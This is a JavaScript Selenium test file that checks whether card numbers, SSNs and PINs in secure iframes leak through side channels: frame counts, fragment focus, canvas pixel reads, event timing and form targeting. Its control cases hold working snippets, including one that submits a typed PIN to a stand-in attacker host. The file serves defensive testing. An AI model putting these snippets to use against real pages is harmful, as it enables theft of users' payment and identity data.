// @ts-check
// Rows 40 to 44: facts that a page can measure, and effects that it can have, from outside of a
// frame.
import assert from 'node:assert/strict';
import { describe } from 'node:test';
import { By } from 'selenium-webdriver';
import { clickOn, press } from '../browser/support/keys.mjs';
import { until } from '../browser/support/wait.mjs';
import { CANVAS, EVENT_COUNTS, FRAGMENT_FOCUS } from './support/features.mjs';
import { row } from './support/row.mjs';
import { useAttackScene } from './support/scene.mjs';
import { CARD, OTHER_CARD, PIN, SSN } from './support/victim.mjs';

describe('side channels', () => {
  const scene = useAttackScene();

  row('40 frames, history and loads counted', ({ attack, control }) => {
    const WATCH = `
      window.loads = [];
      for (const type of ["load", "error", "popstate", "hashchange"]) addEventListener(type, (e) => loads.push(type + " " + e.target?.className), true);`;
    const COUNT = `
      const frames = [...document.querySelectorAll("iframe")].map((f) => f.contentWindow);
      const resources = performance.getEntriesByType("resource").filter(({ initiatorType }) => initiatorType === "iframe");
      return JSON.stringify([
        window.length, history.length, loads.toSorted(),
        frames.map((frame) => [frame.length, frame.closed]),
        resources.map((r) => [r.name, r.transferSize, r.encodedBodySize, r.responseStatus]).toSorted(),
      ]);`;

    attack('the counts are the same for any viewed and revealed card', async () => {
      const counts = [];
      for (const { id } of [CARD, OTHER_CARD]) {
        const victim = await scene.victimPage();
        await victim.run(WATCH);
        await scene.open(victim, 'card', {
          token: await scene.tokenFor('card', { id }),
          input: { paymentCardId: id },
        });
        await victim.call();
        await victim.reveal('number');
        await victim.run('victim.session.hide()');
        // Each visit adds one entry to the history of the test's window.
        counts.push(JSON.parse(await victim.run(COUNT)));
      }
      assert.equal(counts[1][1] - counts[0][1] <= 1, true, 'only the visit itself is added');
      for (const count of counts) count.splice(1, 1);
      assert.deepEqual(counts[0], counts[1]);
    });
    control(
      'a page can count the results of a frame that inserts a frame for each result',
      async () => {
        await scene.visit('/clipboard.html');
        await scene.driver.executeScript(WATCH);
        const frame = await scene.embed(scene.evil('frame.html'));
        await scene.inside(
          frame,
          "for (let i = 0; i < 3; i += 1) document.body.append(document.createElement('iframe'));",
        );
        assert.equal(JSON.parse(await scene.driver.executeScript(COUNT))[3][0][0], 3);
      },
    );
  });

  row('41 fragments, :target and focus', ({ attack, control }) => {
    /**
     * Tries one fragment after another, and reads after each where the focus is and how far the
     * page is scrolled.
     */
    const GUESS = `
      const [frame, guesses, done] = arguments;
      (async () => {
        const seen = [];
        const url = frame.src;
        for (const guess of guesses) {
          document.activeElement?.blur();
          window.focus();
          frame.src = url + guess;
          // A task of this document reports the focus of another frame's document.
          for (let i = 0; i < 5; i += 1) await new Promise((resolve) => setTimeout(resolve, 20));
          seen.push([document.activeElement === frame, scrollX, scrollY]);
        }
        return seen;
      })().then(done, (error) => done(String(error)));`;

    attack(
      'a right guess looks like a wrong one',
      async () => {
        const victim = await scene.viewedCard();
        const { seen } = await victim.reveal('number');
        const right = [
          CARD.number,
          seen,
          seen.slice(0, 4),
          `:~:text=${seen.slice(0, 4)}`,
          `:~:text=${encodeURIComponent(seen)}`,
        ];
        const wrong = [
          '9999',
          '9999 9999 9999 9999',
          '9999',
          ':~:text=9999',
          ':~:text=9999%209999',
        ];
        const frame = await victim.run("return victim.frame('number')");
        const look = async (/** @type {string[]} */ guesses) =>
          victim.wait(
            GUESS,
            frame,
            guesses.map((guess) => `#${guess}`),
          );
        assert.deepEqual(await look(right), await look(wrong));
        assert.ok((await victim.shown('number')).revealed, 'the field is still there');
      },
      FRAGMENT_FOCUS,
    );
    control(
      'a right guess takes the focus in a frame whose elements are named after their content',
      async () => {
        await scene.visit('/clipboard.html');
        const frame = await scene.embed(scene.evil('named.html'));
        const seen = /** @type {any[]} */ (
          await scene.driver.executeAsyncScript(GUESS, frame, ['#9999'])
        );
        assert.deepEqual(
          seen.map(([hasFocus]) => hasFocus),
          [false],
        );
        await scene.driver.executeScript(
          "document.activeElement?.blur(); window.focus(); arguments[0].src = arguments[0].src.replace('#9999', '#4012')",
          frame,
        );
        await until('it has the focus', () =>
          scene.driver.executeScript('return document.activeElement === arguments[0]', frame),
        );
      },
      FRAGMENT_FOCUS,
    );
  });

  row('42 the pixels of a field', ({ attack, control }) => {
    /** Draws markup through an SVG into a canvas, and counts the pixels that are not white. */
    const DRAW = `
      const [markup, done] = arguments;
      const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="120"><foreignObject width="300" height="120">'
        + '<div xmlns="http://www.w3.org/1999/xhtml">' + markup + "</div></foreignObject></svg>";
      const image = new Image();
      image.onload = () => {
        const canvas = Object.assign(document.createElement("canvas"), { width: 300, height: 120 });
        const context = canvas.getContext("2d");
        context.fillStyle = "white";
        context.fillRect(0, 0, 300, 120);
        context.drawImage(image, 0, 0);
        try {
          const { data } = context.getImageData(0, 0, 300, 120);
          let dark = 0;
          for (let i = 0; i < data.length; i += 4) if (data[i] < 128) dark += 1;
          done(dark);
        } catch (error) { done(String(error)); }
      };
      image.onerror = () => done("not drawn");
      image.src = "data:image/svg+xml," + encodeURIComponent(svg);`;

    attack(
      "a canvas gets none of a field's pixels",
      async () => {
        const victim = await scene.viewedCard();
        await victim.reveal('number');
        const markup = await victim.run(
          "const copy = victim.frame('number').cloneNode(); copy.style.border = '0'; return new XMLSerializer().serializeToString(copy);",
        );
        assert.ok([0, 'not drawn'].includes(await victim.wait(DRAW, markup)));
        const drawn = await victim.run(
          `const canvas = document.createElement("canvas");
        try { canvas.getContext("2d").drawImage(victim.frame("number"), 0, 0); return "drawn"; } catch (error) { return error.name; }`,
        );
        assert.equal(drawn, 'TypeError');
      },
      CANVAS,
    );
    control(
      'a canvas gets the pixels of a number in the page',
      async () => {
        await scene.visit('/clipboard.html');
        const dark = await scene.driver.executeAsyncScript(
          DRAW,
          `<p style="font: 24px monospace; color: black">${CARD.number}</p>`,
        );
        assert.ok(Number(dark) > 100, String(dark));
      },
      CANVAS,
    );
  });

  row("43 key strokes counted by the browser's event timing", ({ attack, control }) => {
    const WATCH = `
      window.entries = [];
      for (const type of ["event", "first-input", "layout-shift", "long-animation-frame"]) {
        if (PerformanceObserver.supportedEntryTypes.includes(type)) {
          new PerformanceObserver((list) => { for (const { entryType, name } of list.getEntries()) entries.push(entryType + " " + name); })
            .observe({ type, buffered: true, durationThreshold: 16 });
        }
      }`;
    const COUNT = `
      const keys = ["keydown", "keypress", "keyup", "beforeinput", "input"];
      return { counts: keys.map((key) => performance.eventCounts?.get(key) ?? 0), entries: entries.filter((entry) => /key|input$/.test(entry) && !/first/.test(entry)) };`;

    attack(
      'no key stroke of an SSN is counted',
      async () => {
        const victim = await scene.victim('ssn');
        await victim.run(WATCH);
        const before = await victim.run(COUNT);
        await victim.type('ssn', SSN);
        assert.deepEqual(await victim.run(COUNT), before);
        assert.deepEqual(before.entries, []);
      },
      EVENT_COUNTS,
    );
    control(
      'each key stroke in an input of the page is counted',
      async () => {
        const { driver } = scene;
        await scene.visit('/clipboard.html');
        await driver.executeScript(WATCH);
        await clickOn(driver, await driver.findElement(By.css('input')));
        await press(driver, SSN);
        // The browser counts them when it renders the next frame.
        await until('each is counted', async () => {
          const { counts } = /** @type {any} */ (await driver.executeScript(COUNT));
          return counts[0] >= SSN.length;
        });
      },
      EVENT_COUNTS,
    );
  });

  row('44 fields as the target of links, forms and window.open', ({ attack, control }) => {
    /** Sends data of the page to a named window, in every way that a page has. */
    const AIM = `
      const [name, url] = arguments;
      const form = Object.assign(document.createElement("form"), { target: name, action: url + "?form", method: "post" });
      form.append(Object.assign(document.createElement("input"), { name: "x", value: "y" }));
      document.body.append(form);
      form.submit();`;

    attack('the field is navigated away, and its content stays secret', async () => {
      const victim = await scene.victim('pin');
      // Types into both fields, since the call would fail anyway with only one of them.
      for (const field of ['pin', 'again']) await victim.type(field, PIN);
      const name = await victim.run("return victim.frame('pin').name");
      await victim.run(AIM, name, scene.evil('frame.html'));
      await until('the field is navigated', () =>
        scene.attacker.log().includes('POST /frame.html?form'),
      );
      await scene.settle();
      assert.ok(!scene.attacker.log().includes(PIN));
      const heard = await scene
        .inside(
          await victim.run("return victim.frame('pin')"),
          'return JSON.stringify(attacker.heard())',
        )
        .catch(() => '');
      assert.ok(!heard.includes(PIN), heard);
      const outcome = await victim.call();
      assert.ok('error' in outcome, 'a PIN without its field is not sent');
      assert.deepEqual(
        [outcome.error.code, outcome.error.fields],
        ['invalid-fields', [{ path: 'pin', code: 'missing' }]],
      );
      assert.ok(!(await scene.control.pinIs(CARD.id, PIN)));
    });
    control('the same call with both fields in place sets the PIN', async () => {
      const victim = await scene.victim('pin');
      for (const field of ['pin', 'again']) await victim.type(field, PIN);
      assert.ok('ok' in (await victim.call()));
      assert.ok(await scene.control.pinIs(CARD.id, PIN));
    });
    control('a form takes along the value of an input of the page', async () => {
      const { driver } = scene;
      await scene.visit('/clipboard.html');
      await clickOn(driver, await driver.findElement(By.css('input')));
      await press(driver, PIN);
      await driver.executeScript(
        `const frame = document.createElement("iframe");
        frame.name = "plain";
        document.body.append(frame);
        const form = Object.assign(document.createElement("form"), { target: "plain", action: arguments[0], method: "post" });
        document.body.append(form);
        const input = document.querySelector("input");
        input.name = "pin";
        form.append(input);
        form.submit();`,
        scene.evil('frame.html?plain'),
      );
      await until('the attacker has it', () => scene.attacker.log().includes(`pin=${PIN}`));
    });
  });
});
